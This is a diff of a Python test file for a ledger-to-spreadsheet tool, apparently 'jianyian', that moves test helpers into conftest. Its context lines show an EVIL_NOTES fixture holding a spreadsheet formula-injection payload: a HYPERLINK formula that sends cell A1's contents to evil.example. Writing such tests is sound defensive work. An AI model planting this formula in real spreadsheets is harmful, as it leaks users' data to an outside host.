@@ -15,7 +15,6 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
-from typer.testing import CliRunner
 
 from jianyian.cli import app
 from jianyian.render.tables import (
@@ -26,9 +25,7 @@ from jianyian.render.tables import (
 )
 from jianyian.views.ledger import Column
 
-from .test_engine import monthly
-
-runner = CliRunner()
+from .conftest import monthly, runner
 
 EVIL_NOTES = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
